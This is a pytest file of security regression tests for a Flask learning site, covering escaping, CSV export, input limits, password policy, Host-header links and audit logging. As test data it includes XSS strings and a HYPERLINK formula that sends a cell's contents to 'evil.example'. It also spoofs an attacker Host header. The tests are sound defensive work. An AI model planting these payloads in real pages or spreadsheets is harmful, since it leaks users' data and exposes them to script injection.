"""The findings of the hostile review, each with the test that failed before its fix."""

import ast
import csv
import io
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from sqlalchemy import select, update

from app import create_app, db
from app.content import ContentError
from app.domain.markdown import render_markdown
from app.domain.spreadsheet import FORMULA_STARTS, csv_text, safe_cell
from app.domain.textfiles import split_front_matter
from app.models import AuditEvent, User
from app.quiz_texts import QuizTexts
from tests.conftest import DEMO_PASSWORD, PROJECT_ROOT, confirm_professional, post_form, sign_in
from tests.web.journeys import pass_module, user_id

SCRIPT_NAME = '<script>alert("x")</script>'
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'


def stored_before_the_rule(app, email: str, full_name: str) -> None:
    """Give an account a name saved before names refused symbols: pages and exports must
    still show it safely (app/domain/names.py refuses such a name when it is given now)."""
    with app.app_context():
        db.session().execute(update(User).where(User.email == email).values(full_name=full_name))
        db.session().commit()


# Finding 3: the signed-in user's name reached the header (and every NHS.UK component) raw.


def test_a_name_with_markup_is_escaped_in_the_header_and_every_component(app, client, make_user):
    stored_before_the_rule(app, make_user(), SCRIPT_NAME)
    sign_in(client, "learner@example.org")
    for url in ("/", "/account/", "/modules/"):
        page = client.get(url).text
        assert SCRIPT_NAME not in page, url
        assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in page, url


TEMPLATES = PROJECT_ROOT / "app" / "templates"
# Every way our code marks HTML as safe, and why each is safe (the tests below prove it).
KNOWN_SAFE = {
    ("app/templates/learn/module.html", "module.intro_html | safe"),  # Markdown -> nh3
    ("app/templates/learn/screen.html", "screen.html | safe"),  # Markdown -> nh3
    ("app/components.py", "Markup(html"),  # render_component (escaped)
    ("app/quiz_texts.py", "Markup(before"),  # the blocks a question opens with: Markdown -> nh3
    ("app/quiz_texts.py", "Markup(lead"),  # a question's text: Markdown -> nh3
    ("app/quiz_texts.py", "Markup(more"),  # the rest of a question's text: Markdown -> nh3
    ("app/quiz_texts.py", "Markup(_inline("),  # a choice: Markdown -> nh3
    ("app/quiz_texts.py", "Markup(_block("),  # feedback: Markdown -> nh3
    ("app/scorm_export.py", "Markup(_offline("),  # a quiz text: Markdown -> nh3, links unwrapped
    ("app/site_header.py", "Markup(_site_header("),  # built by the escaping header macro
    ("app/site_header.py", "Markup(html.replace("),  # the CSRF token, escaped before it goes in
    ("app/site_header.py", "Markup("),  # the sign-out form: Markup.format escapes the URL
    ("app/page_shells.py", "Markup(part.render("),  # a template's own autoescaped output
    ("app/page_shells.py", "Markup(f"),  # a marker of our own: a prefix, a part's name, NUL
    ("app/scorm_export.py", "Markup(_screen_html("),  # Markdown -> nh3, as on the site
    ("app/scorm_export.py", "Markup(data"),  # JSON with <, > and & escaped as \u003c and so on
}


def test_every_markup_and_safe_in_our_code_is_one_we_have_proved_safe():
    found = set()
    files = [*TEMPLATES.rglob("*.html"), *(PROJECT_ROOT / "app").rglob("*.py")]
    for path in files:
        for line in path.read_text("utf-8").splitlines():
            for match in re.finditer(r"(\S+ \| ?safe|Markup\([\w.]*\(?)", line):
                found.add((str(path.relative_to(PROJECT_ROOT)), match.group(1).strip("{ ")))
    assert found <= KNOWN_SAFE, found - KNOWN_SAFE


def test_markdown_made_safe_is_sanitised_first():
    hostile = '<script>alert(1)</script><img src=x onerror="alert(2)"> [x](javascript:alert(3))'
    for texts in (QuizTexts("m"), QuizTexts("m", form=True)):
        question = [str(part) for part in texts.question(hostile, "q-1")]
        for html in (*question, str(texts.block(hostile, "r-1")), texts.inline(hostile)):
            assert "<script" not in html and "onerror" not in html and "javascript:" not in html


def test_screens_and_module_intros_are_sanitised_before_they_are_marked_safe(
    tmp_path, database_url
):
    content = tmp_path / "content"
    shutil.copytree(PROJECT_ROOT / "tests/domain/fixtures/valid/modules", content / "modules")
    (content / "quizzes").mkdir()
    module = content / "modules" / "first-steps"
    hostile = '\n\n<script>alert(1)</script><img src="model.svg" alt="m" onerror="alert(2)">\n'
    for name in ("module.md", "01-welcome.md"):
        (module / name).write_text((module / name).read_text("utf-8") + hostile, "utf-8")
    # Raw HTML is an error now, so content holding it is refused outright, each file at its line.
    with pytest.raises(ContentError) as refused:
        create_app(
            {
                "LINKWISE_ENV": "test",
                "DATABASE_URL": database_url,
                "CONTENT_DIR": content,
                "COMPETENCIES_DIR": PROJECT_ROOT / "tests/domain/fixtures/valid/competencies",
            }
        )
    for name in ("module.md", "01-welcome.md"):
        text = (module / name).read_text("utf-8")
        line = text.split("\n").index(hostile.strip()) + 1
        assert f"{name}:{line}: error: raw HTML <script> and <img> are not" in str(refused.value)
        # What the loader renders and the templates mark safe is sanitised all the same.
        split = split_front_matter(text)
        html = render_markdown(split.body, module_slug="first-steps").html
        assert "<script" not in html and "onerror" not in html


def test_the_sign_out_form_and_csrf_token_in_the_header_are_escaped(signed_in):
    page = signed_in.get("/").text
    form = re.search(r'<form class="nhsuk-header__account-form"[^>]*>.*?</form>', page, re.S)
    assert form and 'action="/sign-out"' in form.group(0)
    assert re.search(r'name="csrf_token" value="[\w.\-]+"', form.group(0))


# Finding 2: a learner's name went into the manager's CSV export as a live formula.


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_cells_that_could_start_a_formula_are_neutralised(start):
    assert safe_cell(f"{start}SUM(A1)") == f"'{start}SUM(A1)"
    assert safe_cell("Sam") == "Sam" and safe_cell(-1.5) == -1.5


def test_the_managers_export_neutralises_a_formula_in_a_name(app, client, make_user):
    make_user(email="manager@example.org", role="manager", org="Riverside PCN")
    make_user(email="evil@example.org", org="Riverside PCN")
    stored_before_the_rule(app, "evil@example.org", FORMULA_NAME)
    sign_in(client, "manager@example.org")
    rows = list(csv.reader(io.StringIO(client.get("/manage/export.csv").text)))
    names = {row[0] for row in rows[1:]}
    assert names == {"'" + FORMULA_NAME}
    (written,) = csv.reader(io.StringIO(csv_text([[FORMULA_NAME, "\tx", "\rx", "@x", "-1"]])))
    assert written == ["'" + FORMULA_NAME, "'\tx", "'\rx", "'@x", "'-1"]


# Finding 4: NUL bytes, over-long values and huge ids answered 500.


def test_a_nul_byte_in_any_form_answers_400_with_the_usual_page(app, client, make_user):
    make_user()
    for url, data in (
        ("/sign-in", {"email": "learner@example.org\x00", "password": "x"}),
        ("/sign-in", {"email": "learner@example.org", "password": DEMO_PASSWORD + "\x00"}),
    ):
        response = post_form(client, url, data)
        assert response.status_code == 400
        assert "Sorry, we could not read that" in response.text
    confirm_professional(client)
    response = post_form(client, "/register", {"full_name": "Sam\x00", "email": "s@example.org"})
    assert response.status_code == 400 and "could not read that" in response.text
    assert client.get("/modules/?x=%00").status_code == 400


def test_a_nul_byte_in_a_reflection_is_taken_out_and_the_rest_saved(app, client, make_user):
    """Free text (flask_app.FREE_TEXT) loses its control characters, NUL among them, rather
    than the whole of what was written."""
    make_user()
    sign_in(client, "learner@example.org")
    module = next(m for m in app.extensions["linkwise.catalogue"].modules if m.assessment)
    pass_module(app, client, "learner@example.org", module)
    page = f"/modules/{module.slug}/certificate/"
    post_form(client, page, {"learned": "kept"})
    assert post_form(client, page, {"learned": "new\x00 words\x07"}).status_code == 302
    assert ">new words</textarea>" in client.get(page).text


def test_an_over_long_sign_in_email_is_a_form_error_and_is_audited(app, client):
    email = "a" * 300 + "@example.org"
    response = sign_in(client, email, "whatever it is")
    assert response.status_code == 400
    assert "254 characters or fewer" in response.text
    response = post_form(client, "/forgot-password", {"email": email})
    assert response.status_code == 400


@pytest.mark.parametrize(
    "url",
    [
        "/manage/learners/2147483648",
        "/manage/learners/99999999999999999999999",
        "/modules/what-is-social-prescribing/quiz/attempts/2147483648/",
    ],
)
def test_ids_beyond_a_database_integer_answer_404(app, client, make_user, url):
    make_user(email="manager@example.org", role="manager", org="Riverside PCN")
    sign_in(client, "manager@example.org")
    response = client.get(url)
    assert response.status_code == 404
    assert "Page not found" in response.text


# Finding 5: the command line bypassed the password policy.


def test_create_user_refuses_a_weak_password_and_says_why(app, runner):
    result = runner.invoke(
        args=["create-user", "--email", "a@example.org", "--name", "A", "--password", "a"]
    )
    assert result.exit_code != 0
    assert "password refused: Password must be 12 characters or more" in result.output
    result = runner.invoke(
        args=[
            "create-user",
            "--email",
            "a@example.org",
            "--name",
            "A",
            "--password",
            "Password123!",
        ]
    )
    assert result.exit_code != 0 and "too easy to guess" in result.output
    with app.app_context():
        assert db.session().scalar(select(User.id)) is None


# Finding 6: verification links trusted the Host header.


def test_absolute_links_come_from_the_base_url_never_the_host_header(app, client, make_user):
    app.config["BASE_URL"] = "https://learn.example.org"
    make_user()
    # Every request of this browser names another host, as an attacker's request would.
    client.environ_base.update(HTTP_HOST="evil.example", HTTP_X_FORWARDED_HOST="evil.example")
    sign_in(client, "learner@example.org")
    module = next(m for m in app.extensions["linkwise.catalogue"].modules if m.assessment)
    code = pass_module(app, client, "learner@example.org", module)
    page = client.get(f"/modules/{module.slug}/certificate/").text
    assert f"https://learn.example.org/certificates/{code}" in page
    assert "evil.example" not in page
    pdf = client.get(f"/modules/{module.slug}/certificate.pdf").data
    text = subprocess.run(
        ["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True
    ).stdout.decode()
    assert "learn.example.org/certificates/" in text and "evil.example" not in text


def test_emailed_links_come_from_the_base_url(app, client, make_user, mailbox):
    app.config["BASE_URL"] = "https://learn.example.org"
    make_user()
    client.environ_base.update(HTTP_HOST="evil.example")
    post_form(client, "/forgot-password", {"email": "learner@example.org"})
    assert mailbox.link("learner@example.org").startswith(
        "https://learn.example.org/reset-password/"
    )


# Finding 7: the audit log missed actors and events, and nobody could read it.


def test_a_manager_viewing_a_learner_is_audited(app, client, make_user):
    make_user(email="manager@example.org", role="manager", org="Riverside PCN")
    make_user(email="learner@example.org", org="Riverside PCN")
    sign_in(client, "manager@example.org")
    learner = user_id(app, "learner@example.org")
    assert client.get(f"/manage/learners/{learner}").status_code == 200
    with app.app_context():
        event = db.session().scalar(select(AuditEvent).where(AuditEvent.kind == "learner.viewed"))
    assert (event.actor_id, event.subject_id) == (user_id(app, "manager@example.org"), learner)


def test_admins_read_and_filter_the_audit_log_and_nobody_else_can(app, client, make_user):
    make_user(email="admin@example.org", role="admin")
    make_user(email="learner@example.org")
    sign_in(app.test_client(), "learner@example.org", "wrong password entirely")
    learner = app.test_client()
    sign_in(learner, "learner@example.org")
    assert learner.get("/admin/audit").status_code == 404
    sign_in(client, "admin@example.org")
    page = client.get("/admin/audit").text
    assert "sign_in.failure" in page and "sign_in.success" in page
    assert 'href="/admin/audit"' in page  # in the admin's navigation
    filtered = client.get("/admin/audit?kind=sign_in.failure&email=learner@example.org").text
    assert "sign_in.failure" in filtered and "sign_in.success</td>" not in filtered
    assert client.get("/admin/audit?since=2000-01-01&until=2000-01-02").text.count("<tr>") == 0
    bad = client.get("/admin/audit?since=yesterday")
    assert bad.status_code == 400 and "must be a real date" in bad.text
    last = client.get("/admin/audit?until=9999-12-31")
    assert last.status_code == 400 and 'href="#until"' in last.text
    assert last.text.count("To date must be before the year 9999, like 23/11/2026") == 2
    assert "sign_in.success" in client.get("/admin/audit?since=0001-01-01").text


def test_the_audit_command_prints_events_since_a_date(app, runner, make_user):
    make_user()
    runner.invoke(args=["set-role", "learner@example.org", "trainer"])
    result = runner.invoke(args=["audit", "--since", "2000-01-01", "--kind", "role.changed"])
    assert result.exit_code == 0, result.output
    (line,) = result.output.splitlines()
    fields = line.split("\t")
    assert fields[1] == "role.changed" and fields[2].startswith("command line (")
    assert fields[3] == "learner@example.org" and "new=trainer" in fields[5]
    assert runner.invoke(args=["audit", "--since", "2999-01-01"]).output == ""
    assert runner.invoke(args=["audit", "--since", "soon"]).exit_code == 2


def test_every_audit_event_names_an_actor(app, client, make_user, runner, mailbox):
    make_user()
    sign_in(client, "learner@example.org")
    post_form(
        client,
        "/account/",
        {"current_password": "wrong wrong wrong x", "new_password": "plum harbour violin 77"},
    )
    post_form(app.test_client(), "/forgot-password", {"email": "learner@example.org"})
    runner.invoke(args=["set-role", "learner@example.org", "trainer"])
    with app.app_context():
        events = db.session().scalars(select(AuditEvent)).all()
    assert events
    for event in events:
        assert event.actor_id or event.via == "cli" or event.address, event.kind


def test_every_audit_record_in_our_code_names_its_actor():
    """Each call says who acted: a user's id, a visitor's address, or the command line."""
    unnamed = []
    for path in (PROJECT_ROOT / "app").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if not (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "record"
                and getattr(node.func.value, "id", None) == "audit"
            ):
                continue
            named = {k.arg: k.value for k in node.keywords}
            via = named.get("via")
            from_cli = isinstance(via, ast.Constant) and via.value == "cli"
            if not ({"actor_id", "address"} & named.keys() or from_cli):
                unnamed.append(f"{path.relative_to(PROJECT_ROOT)}:{node.lineno}")
    assert unnamed == []


def test_unsubscribing_names_the_link_holder_as_the_actor(app, make_user):
    from app.services import mail_preferences

    make_user()
    learner = user_id(app, "learner@example.org")
    with app.app_context():
        mail_preferences.unsubscribe(learner, address="10.9.9.9")
        event = db.session().scalar(
            select(AuditEvent).where(AuditEvent.kind == "mail.unsubscribed")
        )
    assert (event.actor_id, event.subject_id, event.address) == (learner, learner, "10.9.9.9")


def test_the_privacy_notice_names_controller_contact_dpo_and_the_ico(database_url):
    from tests.conftest import PRODUCTION

    app = create_app({**PRODUCTION, "DATABASE_URL": database_url, "PRIVACY_DPO": "dpo@x.org"})
    page = app.test_client().get("/privacy").text
    for expected in (
        "Example Primary Care Network",
        "privacy@example.org",
        "dpo@x.org",
        "Article 6(1)(b)",
        "How long we keep it",
        "Information Commissioner",
        "ico.org.uk/make-a-complaint",
    ):
        assert expected in page, expected
    assert "Contact your Linkwise administrator" not in page


def test_the_privacy_notice_names_practice_records_and_who_sees_them(client):
    # The data download holds self-assessments and supervisors' decisions: the notice says
    # they are kept, that a supervisor asked sees the request, and what judges practice.
    page = client.get("/privacy").text.replace("&#39;", "'")
    assert "Your practice records: your self-assessments" in page
    assert "A supervisor you ask to confirm your practice sees your request" in page
    assert "Competency ratings describe quiz answers only" not in page
    assert "Only a supervisor who has seen your work confirms your practice" in page


def test_no_template_file_is_left_unused():
    """Every template is referenced somewhere (catches a page nobody can reach)."""
    code = "\n".join(p.read_text("utf-8") for p in (PROJECT_ROOT / "app").rglob("*.py"))
    code += "\n".join(p.read_text("utf-8") for p in TEMPLATES.rglob("*.html"))
    for path in TEMPLATES.rglob("*.html"):
        name = str(path.relative_to(TEMPLATES))
        assert name in code or Path(name).stem in code, name
